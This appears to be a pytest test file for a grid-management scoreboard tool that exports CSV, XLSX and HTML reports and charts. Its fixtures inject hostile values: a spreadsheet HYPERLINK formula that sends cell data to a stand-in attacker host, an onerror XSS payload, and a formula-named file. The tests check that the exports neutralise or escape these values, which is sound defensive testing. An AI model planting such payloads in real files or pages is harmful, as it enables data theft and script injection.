"""The scoreboard's outputs: the command, safe CSV and XLSX, the HTML page with its evidence, the charts."""

from __future__ import annotations

import base64
import csv
import io
import re
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import numpy as np
import pandas as pd
import pytest
from PIL import Image

import gridmap
from gridmap.cli import main
from gridmap.maps.static_supervision import CHART_LABELS, supervision_chart_png_bytes, supervision_png
from gridmap.analysis.supervision import SCOREBOARD_COLUMNS, weekly_figures, write_scoreboard
from gridmap.jobs.supervision import scoreboard
from gridmap.pages.scoreboard import scoreboard_html

from _browser import offline_page, real_cache_or_skip

START, END = "2025-03-03", "2025-03-10"
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
HOSTILE_CADRE = "@SUM(1+1)<img src=x onerror=alert(1)>"
PHONE = re.compile(r"1[3-9]\d{9}")
_NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


@pytest.fixture(scope="module")
def layers() -> dict[str, object]:
    out = gridmap.sample_layers(n_reports=800, track_days=7)
    communities = out["communities"].copy()
    communities.loc[communities.index[0], "name"] = HOSTILE_NAME
    grids = out["grids"].copy()
    grids.loc[grids.index[0], "cadre"] = HOSTILE_CADRE
    out["communities"], out["grids"] = communities, grids
    return out


@pytest.fixture(scope="module")
def workspace(tmp_path_factory: pytest.TempPathFactory, layers: dict[str, object]) -> Path:
    path = tmp_path_factory.mktemp("ws") / "w.gpkg"
    with gridmap.init_workspace(path) as ws:
        for name in ("subdistrict", "communities", "grids", "reports", "rectifications", "tracks"):
            ws.append(name, layers[name], source=f"{name}.test")
    return path


def _sheet_cells(path: Path, sheet: int = 1) -> list[ElementTree.Element]:
    with zipfile.ZipFile(path) as z:
        root = ElementTree.fromstring(z.read(f"xl/worksheets/sheet{sheet}.xml"))
    return list(root.iter(f"{_NS}c"))


def test_cli_writes_csv_xlsx_html_in_english(workspace: Path, layers: dict[str, object], tmp_path: Path,
                                             capsys: pytest.CaptureFixture[str]) -> None:
    files = {k: tmp_path / f"board.{k}" for k in ("csv", "xlsx", "html")}
    code = main(["scoreboard", str(workspace), "--from", START, "--to", END, "--lang", "en", "--csv",
                 str(files["csv"]), "--xlsx", str(files["xlsx"]), "--html", str(files["html"]), "--online"])
    assert code == 0
    out = capsys.readouterr().out
    assert "scoreboard by community" in out and all(f"wrote {p}" in out for p in files.values())
    with files["csv"].open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["community_code", "name", *SCOREBOARD_COLUMNS]
    # the same figures as the library's, and sorted by rank
    board = scoreboard(workspace, start=START, end=END, lang="en")
    assert [r[0] for r in rows[1:]] == list(board["community_code"])
    assert [int(r[rows[0].index("reports")]) for r in rows[1:]] == list(board["reports"])
    # and the counts themselves, recounted here: reports of [START, END) by their grid's community
    reports, grids = layers["reports"], layers["grids"]
    times = reports["reported_at"]  # type: ignore[index]
    inside = (times >= pd.Timestamp(START, tz="Asia/Shanghai")) & (times < pd.Timestamp(END, tz="Asia/Shanghai"))
    community_of = dict(zip(grids["grid_code"], grids["community_code"]))  # type: ignore[index]
    expected: dict[str, int] = {}
    for grid in reports.loc[inside, "grid_code"]:  # type: ignore[union-attr]
        if grid in community_of:
            expected[community_of[grid]] = expected.get(community_of[grid], 0) + 1
    counted = {r[0]: int(r[rows[0].index("reports")]) for r in rows[1:]}
    assert {k: v for k, v in counted.items() if v} == expected and sum(expected.values()) >= 10


def test_zh_headers_are_chinese(workspace: Path, tmp_path: Path) -> None:
    out = tmp_path / "b.csv"
    assert main(["scoreboard", str(workspace), "--from", START, "--to", END, "--by", "cadre",
                 "--csv", str(out)]) == 0
    header = out.read_text(encoding="utf-8-sig").splitlines()[0].split(",")
    assert header[:3] == ["责任干部", "网格数", "问题数"]
    assert "整改率" in header and "落后原因" in header and "是否落后" in header
    assert not any(re.fullmatch(r"[a-z_]+", h) for h in header)


def test_injection_stays_inert_and_numbers_stay_numbers(layers: dict[str, object], tmp_path: Path) -> None:
    board = scoreboard(layers, start=START, end=END, by="community")
    cadres = scoreboard(layers, start=START, end=END, by="cadre")
    csv_path, xlsx_path = tmp_path / "b.csv", tmp_path / "b.xlsx"
    write_scoreboard(board, csv=csv_path, xlsx=xlsx_path,
                     weekly=weekly_figures(layers, end=END, weeks=2))
    write_scoreboard(cadres, csv=tmp_path / "c.csv", lang="en")
    with csv_path.open(encoding="utf-8-sig", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    with (tmp_path / "c.csv").open(encoding="utf-8-sig", newline="") as fh:
        cells += [c for row in csv.reader(fh) for c in row]
    assert "'" + HOSTILE_NAME in cells and "'" + HOSTILE_CADRE in cells  # neutralised, not dropped
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", "\n")
                and not re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?", c)]
    # raw CSV: numbers unquoted (a negative change included), text quoted
    raw = csv_path.read_text(encoding="utf-8-sig").splitlines()[1]
    assert re.search(r',-?\d+(\.\d+)?,', raw) and raw.startswith('"')
    # XLSX: parsed by hand, no formula element anywhere; figures are numeric cells
    for sheet in (1, 2, 3):
        found = _sheet_cells(xlsx_path, sheet)
        assert found and not any(c.find(f"{_NS}f") is not None for c in found)
    numeric = [c for c in _sheet_cells(xlsx_path, 1) if c.get("t") in (None, "n")]
    assert len(numeric) >= len(board) * 15
    # an independent reader (calamine): the hostile name is text with its apostrophe, rates are floats
    from python_calamine import CalamineWorkbook

    sheet = CalamineWorkbook.from_path(str(xlsx_path)).get_sheet_by_index(0).to_python()
    header = sheet[0]
    rate = header.index("整改率")
    names = [row[1] for row in sheet[1:]]
    assert "'" + HOSTILE_NAME in names
    for row, expected in zip(sheet[1:], board["rectification_rate"], strict=True):
        if pd.isna(expected):
            assert row[rate] == ""
        else:
            assert isinstance(row[rate], float) and row[rate] == pytest.approx(expected, abs=5e-5)


def test_html_page_escapes_redacts_and_shows_evidence(layers: dict[str, object], tmp_path: Path) -> None:
    out = scoreboard_html(layers, tmp_path / "cadre.html", start=START, end=END, by="cadre", offline=False,
                          weeks=0)
    html = out.read_text(encoding="utf-8")
    assert not PHONE.search(html)
    assert "<img src=x" not in html and "onerror" not in html  # masked like any name
    board = scoreboard(layers, start=START, end=END, by="cadre")
    masked = gridmap.mask_name(board["cadre"].iloc[1])
    assert masked in html and board["cadre"].iloc[1] not in html
    assert html.count("<tr") == len(board) + 1  # header + one row per cadre
    internal = scoreboard_html(layers, tmp_path / "internal.html", start=START, end=END, by="cadre",
                               offline=False, weeks=0, redact=False)
    text = internal.read_text(encoding="utf-8")
    assert board["cadre"].iloc[1] in text
    assert "<img src=x" not in text and "&lt;img src=x onerror=alert(1)&gt;" in text  # kept, but escaped
    community = scoreboard_html(layers, tmp_path / "community.html", start=START, end=END, offline=False, weeks=0)
    assert "=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;点我&quot;)" in \
        community.read_text(encoding="utf-8")


def test_cadre_page_evidence_is_exactly_the_reports_behind_the_figures(tmp_path: Path) -> None:
    """The hand-made case of test_scoreboard, by cadre and redacted: the evidence layer, decoded, holds exactly
    r2, r3, r6 (overdue), r5 (reopened by a spot check) and r1, r4 (recurring), each once, and no phone number."""
    from _compact import decode, payload_of
    from test_scoreboard import END as HAND_END
    from test_scoreboard import START as HAND_START
    from test_scoreboard import hand_made_layers

    from gridmap.pages.scoreboard import PAGE_LABELS

    html = scoreboard_html(hand_made_layers(), tmp_path / "cadre.html", start=HAND_START, end=HAND_END, by="cadre",
                           offline=False, weeks=0, lang="en").read_text(encoding="utf-8")
    found = decode(payload_of(html, "evidence"))
    labels = PAGE_LABELS["en"]
    ids = found["fields"][labels["id"]]
    assert found["n"] == len(ids) == 6 and sorted(ids) == ["r1", "r2", "r3", "r4", "r5", "r6"]
    assert dict(zip(ids, found["fields"][labels["state"]])) == {
        "r2": labels["overdue"], "r3": labels["overdue"], "r6": labels["overdue"], "r5": labels["reopened"],
        "r1": labels["recurring"], "r4": labels["recurring"]}
    assert not PHONE.search(html) and "张三" not in html and "李四" not in html


def test_chart_draws_one_line_per_community(layers: dict[str, object], tmp_path: Path) -> None:
    weekly = weekly_figures(layers, end=END, weeks=4)
    assert weekly["week_start"].nunique() == 4 and len(weekly) == 4 * 6
    out = supervision_png(weekly, tmp_path / "w.png", lang="en")
    with Image.open(out) as png:
        image = np.asarray(png.convert("RGB"))
    first_colour = np.array([0x00, 0x72, 0xB2])  # the palette's first colour: the first community's line
    assert (np.abs(image.astype(int) - first_colour).sum(axis=2) < 30).sum() > 200
    zh = Image.open(io.BytesIO(supervision_chart_png_bytes(weekly, lang="zh")))
    assert zh.size[1] > zh.size[0] > 500 and CHART_LABELS["zh"]["rect"] == "整改率"  # stacked: taller than wide
    with Image.open(supervision_png(weekly, tmp_path / "wide.png", layout="wide", dpi=100)) as wide:
        assert wide.size[0] > 2 * wide.size[1]
    with pytest.raises(gridmap.SchemaError, match="layout"):
        supervision_png(weekly, tmp_path / "x.png", layout="square")
    with pytest.raises(gridmap.SchemaError, match="weekly_figures"):
        supervision_png(pd.DataFrame(), tmp_path / "x.png")


def test_leaders_report_holds_the_weekly_chart(layers: dict[str, object], tmp_path: Path) -> None:
    out = gridmap.export_html(layers, tmp_path / "report.html", offline=False, start=START, end=END)
    html = out.read_text(encoding="utf-8")
    found = re.search(r'class="gm-chart"[^>]*src="data:image/png;base64,([^"]+)"', html)
    assert found is not None
    image = Image.open(io.BytesIO(base64.b64decode(found.group(1))))
    assert image.format == "PNG" and image.size[0] > 500


@pytest.mark.browser
@pytest.mark.slow
def test_html_page_offline_in_chromium(layers: dict[str, object], tmp_path: Path) -> None:
    cache = real_cache_or_skip()
    out = scoreboard_html(layers, tmp_path / "board.html", start=START, end=END, cache=cache, weeks=3)
    with offline_page(out, viewport=(1280, 900), phone=False) as session:
        page = session.page
        page.wait_for_timeout(500)
        rows = page.locator(".gm-table tbody tr").count()
        names = page.locator(".gm-table tbody td:nth-child(2)").all_inner_texts()
        chart = page.evaluate("() => { const i = document.querySelector('img.gm-chart');"
                              " return i ? [i.complete, i.naturalWidth, i.clientWidth,"
                              " i.parentElement.clientWidth] : null; }")
        paths = page.locator("path.leaflet-interactive").count()
    assert session.attempted == [] and session.errors == []
    assert rows == 6 and any(HOSTILE_NAME in n for n in names)
    assert chart is not None and chart[0] and chart[1] > 500 and 0 < chart[2] <= chart[3]  # fits the panel
    assert paths >= 6


@pytest.mark.browser
@pytest.mark.slow
def test_leaders_report_chart_fits_the_panel_on_a_phone(layers: dict[str, object], tmp_path: Path) -> None:
    cache = real_cache_or_skip()
    out = gridmap.export_html(layers, tmp_path / "report.html", start=START, end=END, cache=cache)
    with offline_page(out) as session:
        page = session.page
        page.locator("#gm-panel > summary").click()
        page.wait_for_timeout(300)
        sizes = page.evaluate("() => { const i = document.querySelector('img.gm-chart');"
                              " const p = document.getElementById('gm-panel').getBoundingClientRect();"
                              " const r = i.getBoundingClientRect();"
                              " return [i.complete, i.naturalWidth, r.left, r.right, p.left, p.right]; }")
    assert session.attempted == [] and session.errors == []
    complete, natural, left, right, panel_left, panel_right = sizes
    assert complete and natural > 500
    assert panel_left <= left < right <= panel_right and right <= 375


def test_quarantine_csv_neutralises_a_hostile_file_name(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    ws = tmp_path / "w.gpkg"
    gridmap.init_workspace(ws).close()
    hostile = tmp_path / "=1+1.csv"
    hostile.write_text("report_id,reported_at,category,description,lon,lat\n"
                       "R1,2025-03-01 08:00,不存在的类别,@SUM(1),109.73,38.29\n", encoding="utf-8")
    assert main(["import", str(ws), "reports", str(hostile), "--coords", "wgs84"]) == 0
    out = tmp_path / "q.csv"
    assert main(["quarantine", str(ws), "--csv", str(out)]) == 0
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == 1 and rows[0]["source"] == "'=1+1.csv" and rows[0]["reason"] == "unknown_category"
